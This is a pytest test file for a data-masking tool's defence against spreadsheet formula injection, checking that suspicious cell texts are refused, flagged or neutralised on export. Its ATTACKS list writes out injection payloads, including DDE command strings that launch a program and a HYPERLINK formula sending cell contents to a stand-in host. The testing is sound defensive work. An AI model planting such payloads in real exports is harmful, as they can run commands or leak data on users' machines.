"""No text of a release becomes a formula in a spreadsheet unless a person says so; nothing is changed silently."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from rankveil.cli import main
from rankveil.errors import FormatError, ParameterError
from rankveil.files import load, save
from rankveil.files.formulas import for_spreadsheets, is_formula

openpyxl = pytest.importorskip("openpyxl")

ATTACKS = [
    "=1+1", "=cmd|' /C calc'!A0", "+SUM(A1)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1",
    '=HYPERLINK("http://x.example/?"&A1,"see")', "\uff1d1+1", "+1+1", "-1-1", "=1e3", "-A1", "+49 170 12", "=", "==x",
    "#N/A", "#REF!", "-5 to 0", "- none -",
]  # fmt: skip
NUMBERS = ["-1", "+1", "-1.5", "-1,5", "+1e-3", "-.5", "-1.234.567,8", "-7 %", "-inf", "-", "--", "+", "@", "\t", "-5%"]


def texts() -> st.SearchStrategy[str]:
    signs = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\n", "'", " ", "1", "A", "(", "|", "!", '"', ",", "#"])
    return st.one_of(st.sampled_from(ATTACKS), st.sampled_from(NUMBERS), st.lists(signs, max_size=6).map("".join))


@pytest.mark.parametrize("text", NUMBERS)
def test_numbers_and_signs_alone_are_no_formulas(text: str) -> None:
    assert not is_formula(text)


def test_what_begins_like_a_formula_is_found() -> None:
    missed = [text for text in ATTACKS if not is_formula(text)]
    assert missed == ["=", "#N/A", "#REF!"]  # a sign alone runs nothing, and an error is none


@given(cells=st.lists(st.one_of(texts(), st.none()), min_size=1, max_size=8), name=texts())
def test_a_workbook_holds_texts_only(
    cells: list[str | None], name: str, tmp_path_factory: pytest.TempPathFactory, tally: Callable[..., None]
) -> None:
    path = tmp_path_factory.getbasetemp() / "formulas.xlsx"
    table = pa.table({name if name.strip() else "A": pa.array(cells, pa.string()), "B": [1.5] * len(cells)})
    save(table, path)
    book = openpyxl.load_workbook(path)
    kinds = {cell.data_type for row in book.active.rows for cell in row if cell.column == 1 and cell.value is not None}
    assert kinds <= {"s"}
    assert load(path).data.column(0).to_pylist() == [cell or None for cell in cells]
    tally("texts like formulas written", len(cells))


@given(cells=st.lists(st.one_of(texts(), st.none()), min_size=1, max_size=8), name=texts(), coded=st.booleans())
def test_a_csv_holds_no_formula_unless_it_is_asked_to(
    cells: list[str | None], name: str, coded: bool, tally: Callable[..., None]
) -> None:
    column = pa.chunked_array([pa.array(cells, pa.string())])
    table = pa.table([column.dictionary_encode() if coded else column], names=[name])
    dangerous = [text for text in (name, *cells) if text is not None and is_formula(text)]
    kept, notes = for_spreadsheets(table, "out.csv", formulas="keep")
    assert kept is table
    assert bool(notes) == bool(dangerous)
    made, notes = for_spreadsheets(table, "out.tsv", formulas="neutralise")
    assert not any(is_formula(text) for text in (*made.column_names, *made.column(0).to_pylist()) if text)
    safe = [f"'{text}" if text in dangerous else text for text in (name, *cells)]
    assert [*made.column_names, *made.column(0).to_pylist()] == safe
    if dangerous:
        with pytest.raises(FormatError, match=r"out\.csv: texts begin like formulas"):
            for_spreadsheets(table, "out.csv")
    else:
        assert for_spreadsheets(table, "out.csv") == (table, ())
    for other in ("out.parquet", "out.xlsx", "out.dta", "sqlite:///out.db?table=t"):
        assert for_spreadsheets(table, other) == (table, ())
    tally("texts like formulas written", len(cells))


def survey(folder: Path) -> Path:
    path = folder / "survey.csv"
    rows = "".join(f"{20 + row},{'=1+1' if row in (2, 5) else 'plain'},-{row}\n" for row in range(1, 9))
    path.write_text(f"AGE,ANSWER,@LOSS\n{rows}")
    return path


def test_mask_refuses_until_it_is_told_what_to_do(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "out.csv"
    command = ["mask", str(survey(tmp_path)), "-o", str(out), "--method", "rank_swap", "--set", "p=40", "--json"]
    command += ["--role", "ANSWER=other"]  # so that its texts pass as they are
    assert main(command) == 2
    said = capsys.readouterr()
    assert (
        "out.csv: texts begin like formulas: the name @LOSS, column ANSWER (rows 2, 5), and a spreadsheet" in said.err
    )
    assert "--formulas neutralise" in said.err
    assert "=1+1" not in said.err
    assert sorted(path.name for path in tmp_path.iterdir()) == ["survey.csv"]

    assert main([*command, "--formulas", "keep"]) == 0
    notes = json.loads(capsys.readouterr().out)["notes"]
    assert [note for note in notes if "begin like formulas" in note and note.startswith("warning: ")]
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    assert [row["ANSWER"] for row in rows].count("=1+1") == 2

    assert main([*command, "--formulas", "neutralise"]) == 0
    notes = json.loads(capsys.readouterr().out)["notes"]
    assert [note for note in notes if "each was written with an apostrophe before it" in note]
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    assert sorted(row["ANSWER"] for row in rows) == ["'=1+1"] * 2 + ["plain"] * 6
    assert sorted(row["'@LOSS"] for row in rows) == sorted(f"-{row}" for row in range(1, 9))


def test_mask_knows_three_words(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    command = ["mask", str(survey(tmp_path)), "-o", str(tmp_path / "out.csv"), "--method", "rank_swap"]
    assert main([*command, "--formulas", "neutralize"]) == 2
    assert (
        "formulas can be refuse, neutralise, keep, not neutralize; did you mean neutralise?" in capsys.readouterr().err
    )
    with pytest.raises(ParameterError, match="formulas can be"):
        for_spreadsheets(pa.table({"a": ["x"]}), "a.csv", formulas="")


@pytest.mark.parametrize("ending", [".xlsx", ".parquet"])
def test_other_formats_hold_the_texts_as_they_are(tmp_path: Path, ending: str) -> None:
    out = tmp_path / f"out{ending}"
    command = ["mask", str(survey(tmp_path)), "-o", str(out), "--method", "rank_swap", "--set", "p=40"]
    assert main([*command, "--role", "ANSWER=other", "--json"]) == 0
    assert load(out).data.column("ANSWER").to_pylist().count("=1+1") == 2
